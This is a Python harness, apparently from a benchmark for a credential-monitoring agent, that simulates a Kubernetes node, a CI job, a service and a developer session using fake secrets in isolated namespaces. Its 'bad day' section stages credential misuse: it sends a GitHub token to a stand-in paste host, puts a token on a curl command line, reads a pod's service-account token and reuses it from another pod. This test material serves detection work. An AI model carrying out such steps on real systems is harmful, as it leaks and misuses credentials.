# SPDX-License-Identifier: GPL-2.0 OR BSD-3-Clause
"""One day of the noise benchmark, run by bench/noise in a private mount and network
namespace (`unshare -m -n`): nothing it mounts or binds is seen by the host.

The day's host: provider names resolve (a bind-mounted /etc/hosts) to addresses of this
network namespace's loopback device, outside 127/8 (the agent ignores 127/8 by default, as a
host's own traffic), where the providers' HTTPS servers answer with certificates of the day's
private CA, which the system's CA bundle (bind-mounted over it) trusts, as a company's root
CA is. On it: a Kubernetes node (the kubelet as a systemd unit, pods as cgroups and mount
namespaces the way containerd makes them, with their service-account tokens and secrets in
the kubelet's volume directories bound into the pods), a systemd service, and a developer's
login session.

Protocol with bench/noise on stdout/stdin: "STEP SCENARIO NAME ok|fail ..." per step,
"DRAIN PHASE" when a phase is over (the agent is then drained; bench/noise answers "go"),
"RESULT {json}" at the end.
"""
import base64
import json
import os
import secrets
import shutil
import subprocess
import sys
import time
import uuid

import noise_clients as C
import noise_servers

GEN = "bcdfghjklmnpqrstvwxz2456789"  # the characters of Kubernetes' generated name suffixes
PODS_DIR, CONTAINERS_DIR = "/var/log/pods", "/var/log/containers"
SA_DIR = "/var/run/secrets/kubernetes.io/serviceaccount"
POD_PATH = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"


def gen(n):
    return "".join(secrets.choice(GEN) for _ in range(n))


def sh(*argv, **kw):
    return subprocess.run(argv, check=True, **kw)


def write(path, data, mode=0o644, uid=None):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w" if isinstance(data, str) else "wb") as f:
        f.write(data)
    os.chmod(path, mode)
    if uid is not None:
        os.chown(path, uid, uid)


def say(*words):
    print(*words, flush=True)


def cgroup2_root():
    with open("/proc/mounts") as f:
        for line in f:
            p = line.split()
            if len(p) > 2 and p[2] == "cgroup2":
                return p[1]
    raise SystemExit("no cgroup v2 hierarchy mounted")


class Cgroups:
    """The cgroups a day makes (removed at its end, innermost first, once empty)."""

    def __init__(self):
        self.root = cgroup2_root()
        self.made = []

    def make(self, rel):
        path = self.root
        for part in rel.strip("/").split("/"):
            path = os.path.join(path, part)
            if not os.path.isdir(path):
                os.mkdir(path)
                self.made.append(path)
        return path

    def remove(self):
        for d in reversed(self.made):
            for _ in range(50):
                try:
                    os.rmdir(d)
                    break
                except FileNotFoundError:
                    break
                except OSError:
                    time.sleep(0.1)


def into(cgroup):
    """A preexec_fn that moves the child into cgroup before it execs: its first exec, with
    its environment, is already the workload's."""
    procs = os.path.join(cgroup, "cgroup.procs")

    def move():
        with open(procs, "w") as f:
            f.write("0")
    return move


# --- the host ---------------------------------------------------------------------------------
def setup_host(ctx, work):
    """Mounts and addresses of the day's private namespaces."""
    sh("mount", "--make-rprivate", "/")
    sh("ip", "link", "set", "lo", "up")
    addrs = set(ctx["hosts"].values()) | {ctx["kubernetes"]["service_ip"],
                                          ctx["kubernetes"]["endpoint_ip"]}
    for a in sorted(addrs):
        sh("ip", "addr", "add", a + "/32", "dev", "lo")
    hosts = "127.0.0.1\tlocalhost\n::1\tlocalhost ip6-localhost\n" + "".join(
        "%s\t%s\n" % (ip, h) for h, ip in sorted(ctx["hosts"].items()))
    hosts += "%s\t%s\n" % (ctx["kubernetes"]["endpoint_ip"], ctx["kubernetes"]["endpoint_name"])
    write(os.path.join(work, "hosts"), hosts)
    sh("mount", "--bind", os.path.join(work, "hosts"), "/etc/hosts")
    sh("mount", "--bind", ctx["pki"]["bundle"], "/etc/ssl/certs/ca-certificates.crt")
    # /home, /opt and /var/lib/kubelet of this host, over the real ones in this namespace
    for d in ("/home", "/opt"):
        sh("mount", "-t", "tmpfs", "-o", "mode=755", "noise", d)
    rw = os.path.join(work, "varlib")
    os.makedirs(rw)
    sh("mount", "-t", "tmpfs", "noise", rw)
    os.makedirs(rw + "/u")
    os.makedirs(rw + "/w")
    sh("mount", "-t", "overlay", "overlay", "-o",
       "lowerdir=/var/lib,upperdir=%s/u,workdir=%s/w" % (rw, rw), "/var/lib")
    # the developer's home persists from day to day (bench/noise made it)
    os.makedirs("/home/dev")
    sh("mount", "--bind", ctx["dev_home"], "/home/dev")
    # programs installed on the node
    write("/opt/app/kube_client.py", C.KUBE_CLIENT)
    write("/opt/kubelet/sync.py", C.KUBELET_SYNC)
    write("/opt/ledger-sync/sync.py", C.LEDGER_SYNC)
    write("/opt/ledger-sync/.env", "# ledger-sync settings\nLEDGER_DB=/var/lib/ledger\n"
          "STRIPE_API_KEY=%s\n" % ctx["secrets"]["stripe_key"], 0o600)
    os.makedirs("/opt/bin")
    shutil.copy("/usr/bin/python3", "/opt/bin/kubelet")  # the kubelet binary stands in
    pki = "/var/lib/kubelet/pki"
    os.makedirs(pki)
    shutil.copy(ctx["pki"]["ca"], pki + "/ca.crt")
    with open(ctx["pki"]["kubelet"]) as f:
        write(pki + "/kubelet-client-current.pem", f.read(), 0o600)


# --- pods ------------------------------------------------------------------------------------
def atomic_volume(d, files):
    """A volume directory as the kubelet's AtomicWriter lays it out: the files in a
    timestamped directory, ..data pointing at it, and a symlink per file."""
    ts = time.strftime("..%Y_%m_%d_%H_%M_%S.") + str(secrets.randbelow(10 ** 9))
    for name, data in files.items():
        write(os.path.join(d, ts, name), data, 0o644)
    os.symlink(ts, os.path.join(d, "..data"))
    for name in files:
        os.symlink(os.path.join("..data", name), os.path.join(d, name))


class Pod:
    """A pod on the node: a cgroup as the kubelet (systemd driver) and containerd name them,
    its /var/log/pods and /var/log/containers entries, volumes in /var/lib/kubelet/pods/UID
    bound into the container's mount namespace, and the container's main process."""

    def __init__(self, day, namespace, name, container, sa_token, env, secret_vols=None):
        self.namespace, self.name, self.container = namespace, name, container
        self.uid = str(uuid.uuid4())
        self.cid = secrets.token_hex(32)
        qos = "besteffort"
        pod_cg = "kubepods.slice/kubepods-%s.slice/kubepods-%s-pod%s.slice" % (
            qos, qos, self.uid.replace("-", "_"))
        self.cgroup = day.cgroups.make(pod_cg + "/cri-containerd-%s.scope" % self.cid)
        self.log_dir = os.path.join(PODS_DIR, "%s_%s_%s" % (namespace, name, self.uid))
        os.makedirs(os.path.join(self.log_dir, container))
        os.makedirs(CONTAINERS_DIR, exist_ok=True)
        self.log_link = os.path.join(CONTAINERS_DIR, "%s_%s_%s-%s.log" % (
            name, namespace, container, self.cid))
        os.symlink(os.path.join(self.log_dir, container, "0.log"), self.log_link)
        vols = "/var/lib/kubelet/pods/%s/volumes" % self.uid
        sa_vol = "%s/kubernetes.io~projected/kube-api-access-%s" % (vols, gen(5))
        with open(day.ctx["pki"]["ca"]) as f:
            atomic_volume(sa_vol, {"token": sa_token, "ca.crt": f.read(), "namespace": namespace})
        binds = [(sa_vol, "/run/secrets/kubernetes.io/serviceaccount")]
        for vname, files in (secret_vols or {}).items():
            d = "%s/kubernetes.io~secret/%s" % (vols, vname)
            atomic_volume(d, files)
            binds.append((d, "/run/secrets/" + vname))
        mounts = ["mount -t tmpfs pod /run", "mount -t tmpfs pod /tmp",
                  "mount -t tmpfs pod /home"]
        for src, dst in binds:
            mounts += ["mkdir -p " + dst, "mount --bind -o ro %s %s" % (src, dst)]
        self.env = {"PATH": POD_PATH, "HOSTNAME": name, "HOME": "/root",
                    "KUBERNETES_SERVICE_HOST": day.ctx["kubernetes"]["service_ip"],
                    "KUBERNETES_SERVICE_PORT": "443", "KUBERNETES_SERVICE_PORT_HTTPS": "443",
                    "KUBERNETES_PORT": "tcp://%s:443" % day.ctx["kubernetes"]["service_ip"],
                    **env}
        inner = " && ".join(mounts + ["echo ready", "exec sleep 3600"])
        self.main = subprocess.Popen(["unshare", "-m", "sh", "-c", inner], env=self.env,
                                     stdout=subprocess.PIPE, stdin=subprocess.DEVNULL,
                                     preexec_fn=into(self.cgroup))
        if self.main.stdout.readline().strip() != b"ready":
            raise RuntimeError("pod %s did not start" % name)
        self.root = "/proc/%d/root" % self.main.pid
        day.pods.append(self)

    def put(self, path, data, mode=0o600):
        """A file the CI runner or an attacker writes into the container (a write-only open:
        not a credential load)."""
        write(self.root + path, data, mode)

    def run(self, argv, stdin=None, env=None):
        """argv in the container, as `kubectl exec` runs it: the container's environment, its
        cgroup and mount namespace."""
        e = dict(self.env, **(env or {}))
        return subprocess.run(["nsenter", "-m", "-t", str(self.main.pid), "--", *argv], env=e,
                              input=stdin.encode() if stdin else None, capture_output=True,
                              timeout=120, preexec_fn=into(self.cgroup))

    def remove(self):
        if self.main.poll() is None:
            self.main.kill()
        self.main.wait()
        shutil.rmtree(self.log_dir, ignore_errors=True)
        try:
            os.unlink(self.log_link)
        except FileNotFoundError:
            pass


def sa_jwt(namespace, sa, lifetime=3607):
    """A projected service-account token (bound, one hour and a bit, as the kubelet asks)."""
    def b64(d):
        return base64.urlsafe_b64encode(d).rstrip(b"=").decode()
    now = int(time.time())
    claims = {"aud": ["https://kubernetes.default.svc.cluster.local"], "exp": now + lifetime,
              "iat": now, "iss": "https://kubernetes.default.svc.cluster.local",
              "kubernetes.io": {"namespace": namespace,
                                "node": {"name": "node-1", "uid": str(uuid.uuid4())},
                                "pod": {"name": "x", "uid": str(uuid.uuid4())},
                                "serviceaccount": {"name": sa, "uid": str(uuid.uuid4())},
                                "warnafter": now + 3600},
              "nbf": now, "sub": "system:serviceaccount:%s:%s" % (namespace, sa)}
    header = {"alg": "RS256", "kid": b64(secrets.token_bytes(32))}
    return ".".join([b64(json.dumps(header, separators=(",", ":")).encode()),
                     b64(json.dumps(claims, separators=(",", ":")).encode()),
                     b64(secrets.token_bytes(256))])


# --- the day ---------------------------------------------------------------------------------
class Day:
    def __init__(self, ctx, work, day_no, bad):
        self.ctx, self.work, self.day_no, self.bad = ctx, work, day_no, bad
        self.cgroups = Cgroups()
        self.pods = []
        self.steps = []
        self.servers = []
        self.log = None
        self.session = "user.slice/user-1000.slice/session-%d.scope" % (40 + day_no)

    def step_lines(self, scenario, out):
        for line in out.decode(errors="replace").splitlines():
            if line.startswith("STEP "):
                _, name, status, *rest = line.split()
                self.record(scenario, name, status == "ok", " ".join(rest))

    def record(self, scenario, name, ok, detail=""):
        self.steps.append({"scenario": scenario, "step": name, "ok": ok, "detail": detail})
        say("STEP", scenario, name, "ok" if ok else "fail", detail)

    def unit(self, name, argv, env, scenario, step):
        """A systemd-style service start: argv in system.slice/NAME.service."""
        cg = self.cgroups.make("system.slice/" + name)
        p = subprocess.run(argv, env=env, capture_output=True, timeout=120, preexec_fn=into(cg))
        self.record(scenario, step, p.returncode == 0,
                    "" if p.returncode == 0 else p.stderr.decode(errors="replace")[-300:])

    def drain(self, phase):
        say("DRAIN", phase)
        if sys.stdin.readline().strip() != "go":
            raise SystemExit("bench/noise went away")

    # --- scenarios ------------------------------------------------------------------------
    def start_node(self):
        s = self.ctx["secrets"]
        self.ci = Pod(self, "ci", "web-build-%d-%s" % (29000000 + self.day_no, gen(5)), "build",
                      s["sa_ci"], {"CI": "true", "HOME": "/home/runner",
                                   "NODE_EXTRA_CA_CERTS": "/etc/ssl/certs/ca-certificates.crt"},
                      {"slack": {"bot-token": s["slack_token"] + "\n"}})
        self.controller = Pod(self, "ops", "cert-sync-7d9f8b6c5d-" + gen(5), "controller",
                              s["sa_ops"], {})

    def kubelet(self):
        env = {"PATH": POD_PATH, "CW_APISERVER": self.ctx["kubernetes"]["endpoint_name"]}
        self.unit("kubelet.service", ["/opt/bin/kubelet", "/opt/kubelet/sync.py"], env,
                  "kubelet", "sync-pods")

    def ci_job(self):
        """The job a CI runner (gitlab-runner's Kubernetes executor) feeds to the build
        container's shell: checkout, install, notify, registry login."""
        s, pod = self.ctx["secrets"], self.ci
        # the runner's set-up, written into the container: git's credential store, .npmrc and
        # the registry login, as a job's variables and files are
        pod.put("/home/runner/.git-credentials",
                "https://x-access-token:%s@github.com\n" % s["ci_github"])
        pod.put("/home/runner/.npmrc", "@acme:registry=https://registry.npmjs.org/\n"
                "//registry.npmjs.org/:_authToken=%s\n" % s["npm_token"])
        auth = base64.b64encode(("acmeci:" + s["docker_pat"]).encode()).decode()
        pod.put("/home/runner/.docker/config.json", json.dumps(
            {"auths": {"https://index.docker.io/v1/": {"auth": auth}}}, indent="\t") + "\n")
        script = C.STEP_FN + """
STEPLOG=/tmp/job.log
git config --global credential.helper store
git config --global user.email ci@acme.example
git config --global user.name 'Acme CI'
step checkout git clone -q https://github.com/acme/web.git /home/runner/builds/acme/web
cd /home/runner/builds/acme/web || exit 1
step npm-install npm install --no-audit --no-fund --no-update-notifier
step notify python3 ci/notify.py "web: build #%d passed"
step registry-login sh -c 'printf "%%s\\n" "$DOCKER_HUB_TOKEN" | docker login -u acmeci --password-stdin'
""" % self.day_no
        # the job's variables are its shell's environment, as gitlab-runner passes them
        p = pod.run(["sh", "-s"], stdin=script, env={"DOCKER_HUB_TOKEN": s["docker_pat"]})
        self.step_lines("ci-job", p.stdout)

    def controller_sync(self):
        p = self.controller.run(["python3", "/opt/app/kube_client.py"])
        self.record("in-cluster-client", "list-and-lease", p.returncode == 0,
                    p.stderr.decode(errors="replace")[-300:] if p.returncode else "")

    def service(self):
        self.unit("ledger-sync.service", ["/usr/bin/python3", "/opt/ledger-sync/sync.py"],
                  {"PATH": POD_PATH, "LANG": "C.UTF-8", "INVOCATION_ID": secrets.token_hex(16)},
                  "service", "start")

    def dev_session(self, script):
        """A developer's login shell in a session scope, uid 1000, the commands typed."""
        cg = self.cgroups.make(self.session)
        env = {"HOME": "/home/dev", "USER": "dev", "LOGNAME": "dev", "SHELL": "/bin/bash",
               "LANG": "C.UTF-8", "TERM": "xterm-256color",
               "PATH": "/home/dev/.local/bin:/usr/local/bin:/usr/bin:/bin",
               "XDG_SESSION_ID": self.session.split("-")[-1].split(".")[0]}
        p = subprocess.run(["setpriv", "--reuid=1000", "--regid=1000", "--clear-groups",
                            "bash", "-s"], preexec_fn=into(cg),
                           env=env, cwd="/home/dev", capture_output=True, timeout=180,
                           input=(C.STEP_FN + "STEPLOG=$HOME/.cache/steps.log\n" +
                                  script).encode())
        self.step_lines("dev-shell", p.stdout)

    def dev_day(self):
        tok = self.ctx["secrets"]["dev_github"]
        self.dev_session("""export GITHUB_TOKEN=%s
cd ~
if [ -d src/tools ]; then step git-pull git -C src/tools pull -q --rebase; else step git-clone git clone -q https://github.com/dev/tools.git src/tools; fi
step gh-stats gh-stats acme/web
cd src/tools && echo "day %d: $(date -u +%%F)" >> NOTES.md && git add NOTES.md && git commit -qm "notes, day %d"
step git-push git push -q origin HEAD
step aws-sts aws-whoami
""" % (tok, self.day_no, self.day_no))

    # --- the bad day ----------------------------------------------------------------------
    def bad_steps(self):
        s = self.ctx["secrets"]
        # 1, 4: the developer's token sent to another host, and on a command line
        self.dev_session("""export GITHUB_TOKEN=%s
GITHUB_API_URL=https://paste.example.net step token-to-another-host gh-stats acme/web
step token-in-argv curl -sS -o /dev/null -H "Authorization: token $GITHUB_TOKEN" https://api.github.com/user
""" % s["dev_github"])
        # 2: a shell in the controller's pod cats its service-account token
        p = self.controller.run(["sh", "-s"], stdin="cat %s/token\n" % SA_DIR)
        self.record("bad", "cat-sa-token", p.returncode == 0 and p.stdout.startswith(b"eyJ"))
        # 3: a second pod uses the controller's token (pasted into its /tmp)
        debug = Pod(self, "tools", "netshoot-" + gen(5), "netshoot", s["sa_tools"], {})
        debug.put("/tmp/token", s["sa_ops"])
        p = debug.run(["python3", "/opt/app/kube_client.py", "/tmp/token"])
        self.record("bad", "second-pod-uses-token", p.returncode == 0,
                    p.stderr.decode(errors="replace")[-300:] if p.returncode else "")

    # --- the whole day --------------------------------------------------------------------
    def run(self):
        setup_host(self.ctx, self.work)
        harness = self.cgroups.make("cw-noise-harness")
        with open(os.path.join(harness, "cgroup.procs"), "w") as f:
            f.write(str(os.getpid()))
        self.servers, self.log = noise_servers.start(self.ctx)
        self.start_node()
        self.kubelet()
        self.ci_job()
        self.controller_sync()
        self.service()
        self.dev_day()
        self.drain("normal")
        if self.bad:
            self.bad_steps()
            self.drain("bad")

    def close(self):
        for p in self.pods:
            p.remove()
        if self.servers:
            noise_servers.stop(self.servers)
        # back to where bench/noise started us, so the day's cgroups can go
        with open(os.path.join(self.cgroups.root, "cgroup.procs"), "w") as f:
            f.write(str(os.getpid()))
        self.cgroups.remove()


def main():
    ctxfile, work, day_no, bad = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4] == "bad"
    with open(ctxfile) as f:
        ctx = json.load(f)
    day = Day(ctx, work, day_no, bad)
    try:
        day.run()
    finally:
        day.close()
        say("RESULT", json.dumps({"steps": day.steps, "pods": [
            {"namespace": p.namespace, "name": p.name, "uid": p.uid, "cgroup": p.cgroup}
            for p in day.pods], "requests": day.log.entries if day.log else [],
            "cgroups": [c[len(day.cgroups.root):] for c in day.cgroups.made]}))


if __name__ == "__main__":
    main()
